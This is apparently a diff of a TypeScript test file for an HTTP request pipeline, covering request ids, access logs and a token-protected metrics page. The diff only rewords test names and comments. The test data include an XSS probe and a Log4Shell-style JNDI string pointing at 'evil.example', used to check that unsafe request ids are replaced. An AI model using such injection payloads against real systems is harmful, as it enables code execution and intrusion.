@@ -13,7 +13,7 @@ import { until } from '../support/until.js';
 
 const UUID = /^[\da-f]{8}-[\da-f]{4}-4[\da-f]{3}-[89ab][\da-f]{3}-[\da-f]{12}$/;
 
-/** Where a slow request waits until the test lets it go on. */
+/** Blocks a slow request until the test releases it. */
 @Injectable()
 class Gate {
   entered = 0;
@@ -62,7 +62,7 @@ class WorkController {
     return { seen: await this.work.do(body.id) };
   }
 
-  /** Answers first and goes on working. */
+  /** Answers before its work is finished. */
   @Post('timers')
   timers(): void {
     setTimeout(() => this.logger.log({ msg: 'a timer' }), 1);
@@ -99,7 +99,7 @@ onBothAdapters('the request pipeline', (adapter) => {
 
   describe('request id', () => {
     it.each(['abcdefgh', 'A.b_c-9876', 'x'.repeat(64), '0f8fad5b-d9cb-469f-a165-70867728950e'])(
-      'of the client is kept when it is harmless: %s',
+      'of the client is kept if it is safe: %s',
       async (id) => {
         const answer = await get('/no/such/route', { 'X-Request-Id': id });
         expect(answer.headers['x-request-id']).toBe(id);
@@ -109,24 +109,24 @@ onBothAdapters('the request pipeline', (adapter) => {
     );
 
     it.each([
-      ['short', 'abc'],
-      ['long', 'x'.repeat(65)],
-      ['long beyond measure', 'x'.repeat(5_000)],
-      ['not a word', 'id with spaces'],
+      ['too short', 'abc'],
+      ['too long', 'x'.repeat(65)],
+      ['extremely long', 'x'.repeat(5_000)],
+      ['text with spaces', 'id with spaces'],
       ['markup', '<script>alert(1)</script>'],
       ['a template', '${jndi:ldap://evil.example/a}'],
       ['empty', ''],
-    ])('of the client is replaced when it is %s', async (_what, id) => {
+    ])('of the client is replaced if it is %s', async (_what, id) => {
       const { headers } = await get('/livez', { 'X-Request-Id': id });
       expect(headers['x-request-id']).toMatch(UUID);
     });
 
-    it('is replaced when there are two', async () => {
+    it('is replaced if the client sends two', async () => {
       const { headers } = await get('/livez', { 'X-Request-Id': ['first-one', 'second-one'] });
       expect(headers['x-request-id']).toMatch(UUID);
     });
 
-    it('is another for each request', async () => {
+    it('is different for each request', async () => {
       const ids = await Promise.all(
         Array.from({ length: 50 }, async () => (await get('/livez')).headers['x-request-id']),
       );
@@ -141,7 +141,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       expect(linesOf(headers['x-request-id'], 'working')).toMatchObject([{ what: 'one', context: 'Work' }]);
     });
 
-    it('follows a request whose body arrives in parts, on a connection that others used before', async () => {
+    it('follows a request whose body arrives in parts, on a reused connection', async () => {
       const text = JSON.stringify({ id: 'in parts', filler: 'x'.repeat(200_000) });
       for (let i = 0; i < 3; i++) {
         const { headers, body } = await app.post('/v1/work/items', text);
@@ -150,7 +150,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       }
     });
 
-    it('follows a request whose body arrives while others are served', async () => {
+    it('follows a request whose body arrives while the server handles other requests', async () => {
       const text = JSON.stringify({ id: 'in between' });
       const outgoing = request(`${app.baseUrl}/v1/work/items`, {
         method: 'POST',
@@ -168,13 +168,13 @@ onBothAdapters('the request pipeline', (adapter) => {
       expect(linesOf('in-between-1', 'working')).toMatchObject([{ what: 'in between' }]);
     });
 
-    it('follows into timers that outlive the answer', async () => {
+    it('follows a request into timers that run after the answer', async () => {
       const { headers } = await app.post('/v1/work/timers', {});
       await until('the timer has logged', () => app.logs.some(({ msg }) => msg === 'a timer'));
       expect(linesOf(headers['x-request-id'], 'a timer')).toHaveLength(1);
     });
 
-    it('is never mixed up between requests in flight', async () => {
+    it('is never shared between concurrent requests', async () => {
       const ids = Array.from({ length: 100 }, (_, i) => `in-flight-${adapter}-${i}`);
       const answers = await Promise.all(
         ids.map((id, i) => {
@@ -186,7 +186,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       for (const id of ids) expect(linesOf(id, 'working')).toMatchObject([{ what: id }]);
     });
 
-    it('can be made for a job', () => {
+    it('can be created for a job', () => {
       const logger = new Logger('Job');
       runWithContext(new RequestContext('job-0001'), () => logger.log({ msg: 'in a job' }));
       expect(linesOf('job-0001', 'in a job')).toHaveLength(1);
@@ -195,7 +195,7 @@ onBothAdapters('the request pipeline', (adapter) => {
   });
 
   describe('access line', () => {
-    it('tells what was asked, what was answered, how long it took and who asked', async () => {
+    it('contains the request, the status, the duration and the user', async () => {
       const visitor = await app.register();
       const { headers } = await app.get('/auth/profile?token=hunter2', { token: visitor.token });
       const line = await accessLine(headers['x-request-id']);
@@ -223,7 +223,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       expect(await accessLine(headers['x-request-id'])).toMatchObject({ path, status, level, address: '127.0.0.1' });
     });
 
-    it('is not written for probes and metrics, however they are spelled', async () => {
+    it('is not written for probes and metrics, with any spelling of the path', async () => {
       const paths = [
         '/health',
         '/health/live',
@@ -240,12 +240,12 @@ onBothAdapters('the request pipeline', (adapter) => {
       expect(ids.flatMap((id) => linesOf(id, 'request'))).toEqual([]);
     });
 
-    it('is written for what only begins like a probe', async () => {
+    it('is written for a path that only begins like a probe', async () => {
       const { headers } = await get('/health/../admin');
       expect(await accessLine(headers['x-request-id'])).toMatchObject({ path: '/health/../admin' });
     });
 
-    it('says 499 when the client goes away before the answer', async () => {
+    it('has status 499 if the client disconnects before the answer', async () => {
       const gate = app.app.get(Gate);
       const { hostname, port } = new URL(app.baseUrl);
       const before = gate.entered;
@@ -274,7 +274,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       expect(app.logs.filter(({ msg }) => msg === 'forged')).toEqual([]);
     });
 
-    it('leaves out scheme and host of a target in absolute form', async () => {
+    it('omits the scheme and the host of an absolute request target', async () => {
       const { headers, status } = await sendBytes(
         app.baseUrl,
         'GET http://x.example/auth/profile?a=1 HTTP/1.1\r\nHost: x.example\r\nConnection: close\r\n\r\n',
@@ -290,7 +290,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       return text.split('\n').filter((line) => line.startsWith(`${metric}{`) || line.startsWith(`${metric} `));
     };
 
-    it('are a page that Prometheus can read', async () => {
+    it('use the text format of Prometheus', async () => {
       await get('/v1/work/items/1');
       const answer = await get('/metrics');
       expect(answer.status).toBe(200);
@@ -306,7 +306,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       expect(answer.text.endsWith('\n')).toBe(true);
     });
 
-    it('count requests by the pattern of the route, not by its path', async () => {
+    it('count requests by the route pattern, not by the path', async () => {
       await Promise.all(['a', 'b', 'c'].map((id) => get(`/v1/work/items/${id}`)));
       await get('/v1/work/items/');
       const counts = await series('http_server_request_duration_seconds_count');
@@ -315,7 +315,7 @@ onBothAdapters('the request pipeline', (adapter) => {
       expect(ofItems[0]).toMatch(/method="GET",route="\/v1\/work\/items\/:id",status="200"/);
     });
 
-    it('do not grow with made-up paths', async () => {
+    it('get no new series for unknown paths', async () => {
       await get('/made/up/0');
       const before = await series('http_server_request_duration_seconds_count');
       await Promise.all(Array.from({ length: 50 }, (_, i) => get(`/made/up/${i}?q=${i}`)));
@@ -333,7 +333,7 @@ onBothAdapters('the metrics page', (adapter) => {
   const TOKEN = 'a token for the scraper, long enough';
   const refused = { status: 401, code: 'METRICS_TOKEN_REQUIRED' };
 
-  it('asks for the token that is set', async () => {
+  it('requires the configured token', async () => {
     const app = await TestApp.start({ HTTP_ADAPTER: adapter, METRICS_TOKEN: TOKEN });
     const scrape = (authorization?: string) =>
       app.get('/metrics', { headers: authorization === undefined ? {} : { Authorization: authorization } });
@@ -359,7 +359,7 @@ onBothAdapters('the metrics page', (adapter) => {
     }
   });
 
-  it('serves nobody in production while no token is set', async () => {
+  it('refuses every request in production if no token is set', async () => {
     const app = await TestApp.start({
       HTTP_ADAPTER: adapter,
       NODE_ENV: 'production',
